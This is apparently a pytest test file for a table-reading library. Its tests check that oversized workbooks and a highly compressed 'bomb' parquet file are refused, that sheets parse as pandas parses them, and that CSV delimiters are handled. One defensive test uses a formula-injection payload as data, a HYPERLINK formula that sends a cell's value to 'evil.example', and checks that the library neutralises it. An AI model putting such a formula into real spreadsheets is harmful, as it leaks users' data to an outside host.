"""Files that hold far more than they weigh are refused before they fill the memory."""

from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from foundation.data.tables import iter_table, read_table, write_table
from foundation.data.workbooks import without_formulas
from foundation.errors import InputError


def test_a_letter_in_the_last_cell_does_not_fill_the_memory(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "text"
    book.active.cell(1_048_576, 16_384, "x")
    book.save(tmp_path / "far.xlsx")
    with pytest.raises(InputError, match=r"far\.xlsx spans more than 20,000,000 cells"):
        read_table(tmp_path / "far.xlsx")


def test_columns_that_are_formatted_to_their_end_are_read(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for at, row in enumerate([("text", "label"), ("profit rose", "good"), ("profit fell", "bad")], start=1):
        for column, cell in enumerate(row, start=1):
            book.active.cell(at, column, cell)
    book.active.cell(30_000, 26).number_format = "0.00"
    book.save(tmp_path / "styled.xlsx")
    assert read_table(tmp_path / "styled.xlsx")["label"].tolist() == ["good", "bad"]


def test_a_sheet_is_read_as_pandas_reads_it(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    day = datetime(2026, 3, 2, 9, 30)
    rows = [
        ("text", None, "n", "n"),
        ('a\nb, "c"', day, 7.0, 1.5),
        (None, None, None, None),
        ("007", True, "#N/A", None),
    ]
    for row in rows:
        book.active.append(row)
    book.save(tmp_path / "a.xlsx")
    ours = read_table(tmp_path / "a.xlsx")
    theirs = pd.read_excel(tmp_path / "a.xlsx", dtype=str, keep_default_na=False, engine="openpyxl").fillna("")
    assert ours.columns.tolist() == theirs.columns.tolist()
    assert ours.to_numpy().tolist() == theirs.to_numpy().tolist()


def test_one_long_text_many_times_is_told_from_a_table(tmp_path: Path) -> None:
    pq.write_table(pa.table({"text": ["x" * 1_000_000] * 2000}), tmp_path / "bomb.parquet", compression="zstd")
    assert (tmp_path / "bomb.parquet").stat().st_size < 10_000
    with pytest.raises(InputError, match=r"bomb\.parquet unpacks to more than 1,02\d MB"):
        read_table(tmp_path / "bomb.parquet")


def test_blocks_of_parquet_are_those_of_the_file(tmp_path: Path) -> None:
    whole = pd.DataFrame({"n": range(5000), "text": [f"text {at}" for at in range(5000)]})
    whole.to_parquet(tmp_path / "a.parquet")
    blocks = list(iter_table(tmp_path / "a.parquet", rows=2500))
    assert max(map(len, blocks)) <= 2500
    assert pd.concat(blocks)["n"].tolist() == list(range(5000))


def test_a_customers_formula_is_a_text(tmp_path: Path) -> None:
    rows = pd.DataFrame({"=evil": ['=HYPERLINK("https://evil.example/?x="&A1)', "@sum", "+49 30 12", "-1,250.5"]})
    write_table(without_formulas(rows), tmp_path / "a.csv", append=False, kind=".csv")
    read = pd.read_csv(tmp_path / "a.csv", dtype=str)
    assert read.columns.tolist() == ["'=evil"]
    assert read["'=evil"].tolist() == ['\'=HYPERLINK("https://evil.example/?x="&A1)', "'@sum", "'+49 30 12", "-1,250.5"]


@pytest.mark.parametrize("sign", [",", ";", "\t"])
def test_columns_are_held_apart_as_the_header_does(tmp_path: Path, sign: str) -> None:
    (tmp_path / "a.csv").write_text(f'text{sign}label\n"Shares fall, profits; too"{sign}bad\n', encoding="utf-8")
    assert read_table(tmp_path / "a.csv").to_dict("records") == [{"text": "Shares fall, profits; too", "label": "bad"}]


def test_a_table_that_goes_on_in_another_sheet_is_not_cut_off(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "May"
    for sheet in (book.active, book.create_sheet("About"), book.create_sheet("Empty"), book.create_sheet("June")):
        for row in {"About": [["made by", "desk 7"]], "Empty": []}.get(sheet.title, [["text"], ["profit rose"]]):
            sheet.append(row)
    book.save(tmp_path / "a.xlsx")
    with pytest.raises(InputError, match=r"a\.xlsx goes on in another sheet, 'June', .* of the first, 'May'; save"):
        read_table(tmp_path / "a.xlsx")
    book.remove(book["June"])
    book.save(tmp_path / "a.xlsx")
    assert read_table(tmp_path / "a.xlsx")["text"].tolist() == ["profit rose"]
